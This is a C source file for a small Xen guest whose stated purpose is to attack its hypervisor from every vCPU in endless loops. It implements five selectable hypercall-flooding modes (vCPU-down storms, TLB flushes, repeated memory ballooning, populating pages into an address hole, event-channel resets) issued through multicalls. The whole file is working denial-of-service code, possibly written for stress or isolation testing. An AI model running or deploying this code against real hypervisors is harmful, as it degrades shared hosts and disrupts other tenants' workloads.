/* Attacks its hypervisor from every vCPU, without end: long calls, and calls that make vCPUs wait for each other. */
#include "start_info.h"
#include "xen.h"

enum {
    VCPUS = 128,
    ENTRIES = 32,
    EXTENTS = 256,
    STACK_BYTES = 1024,
    MEMORY_OP = 12,
    MULTICALL = 13,
    EVENT_CHANNEL_OP = 32,
    HVM_OP = 34,
    DECREASE = 1,
    POPULATE = 6,
    UP = 1,
    DOWN = 2,
    IS_UP = 3,
    RESET = 10,
    FLUSH_TLBS = 5,
    DOMID_SELF = 0x7ff0,
    HOLE = 0xf0000,     /* frames without RAM in a guest of less than 3840 MiB */
    FIRST_MIB = 0x8000, /* frames from 128 MiB on */
};

struct entry {
    uint32_t op, result, args[6];
};

struct reservation {
    uint32_t frames, count, order, flags;
    uint16_t domain, pad;
};

static struct entry lists[VCPUS][ENTRIES] __attribute__((aligned(4096)));
static uint8_t stacks[VCPUS][STACK_BYTES] __attribute__((aligned(16)));
static uint32_t frames[EXTENTS];
static struct reservation extents;
/* How many vCPUs there are. The last one stays down, if there are more than two. */
static uint32_t vcpus = 1;
/* Fills the list of one vCPU. */
static void (*attack)(struct entry *list);

static void fill(struct entry *list, uint32_t op, uint32_t first, uint32_t second)
{
    for (uint32_t i = 0; i < ENTRIES; i++) {
        list[i].op = op;
        list[i].args[0] = first;
        list[i].args[1] = second;
    }
}

/* Every vCPU asks all others what has become of them: VCPUOP_down of one that is down already. */
static void downs(struct entry *list)
{
    fill(list, VCPU_OP, DOWN, vcpus > 2 ? vcpus - 1 : vcpus);
}

/* Every vCPU makes all others leave the guest. */
static void flush(struct entry *list)
{
    fill(list, HVM_OP, FLUSH_TLBS, 0);
}

/* RAM is given back and taken again, 2 MiB an extent. */
static void balloon(struct entry *list)
{
    fill(list, MEMORY_OP, DECREASE, (uint32_t)&extents);
    for (uint32_t i = 1; i < ENTRIES; i += 2)
        list[i].args[0] = POPULATE;
    for (uint32_t i = 0; i < EXTENTS; i++)
        frames[i] = FIRST_MIB + i * 512;
    extents.order = 9;
}

/* 256 pages are put into a hole, each with a memory slot of the host's, again and again, and taken away. */
static void slots(struct entry *list)
{
    fill(list, MEMORY_OP, POPULATE, (uint32_t)&extents);
    list[ENTRIES - 1].args[0] = DECREASE;
    for (uint32_t i = 0; i < EXTENTS; i++)
        frames[i] = HOLE;
    extents.order = 8;
}

/* Ports are closed and services connected anew. */
static void resets(struct entry *list)
{
    static const uint16_t self[2] = {DOMID_SELF, 0};
    fill(list, EVENT_CHANNEL_OP, RESET, (uint32_t)self);
}

static void run(uint32_t me)
{
    attack(lists[me]);
    for (;;)
        xen_call(MULTICALL, (uint32_t)lists[me], ENTRIES, 0);
}

static void start(uint32_t vcpu)
{
    xen_initialise(vcpu, run, stacks[vcpu] + STACK_BYTES);
    xen_call(VCPU_OP, UP, vcpu, 0);
}

static bool is_word(uint32_t at, const char *word)
{
    for (; *word != 0; word++, at++)
        if (read8(at) != (uint8_t)*word)
            return false;
    return true;
}

void guest_main(void)
{
    static const struct {
        const char *name;
        void (*fill)(struct entry *);
    } attacks[] = {{"downs", downs}, {"flush", flush}, {"balloon", balloon}, {"slots", slots}, {"resets", resets}};
    uint32_t cmdline = (uint32_t)read_start_info(at_entry.ebx).cmdline;
    console_open();
    for (uint32_t i = 0; i < sizeof attacks / sizeof attacks[0] && cmdline != 0; i++)
        if (is_word(cmdline, attacks[i].name))
            attack = attacks[i].fill;
    if (!xen_open() || attack == 0) {
        print("attack: failed: not Xen, or no attack of this name\n");
        return;
    }
    extents.frames = (uint32_t)frames;
    extents.count = EXTENTS;
    extents.domain = DOMID_SELF;
    while (vcpus < VCPUS && xen_call(VCPU_OP, IS_UP, vcpus, 0) == 0)
        vcpus++;
    print("attack: ");
    print_number(vcpus);
    print(" vCPUs\n");
    for (uint32_t vcpu = 1; vcpu < vcpus && (vcpu == 1 || vcpu + 1 < vcpus); vcpu++)
        start(vcpu);
    run(0);
}

void guest_end(void)
{
    print("attack: failed: an exception\n");
}
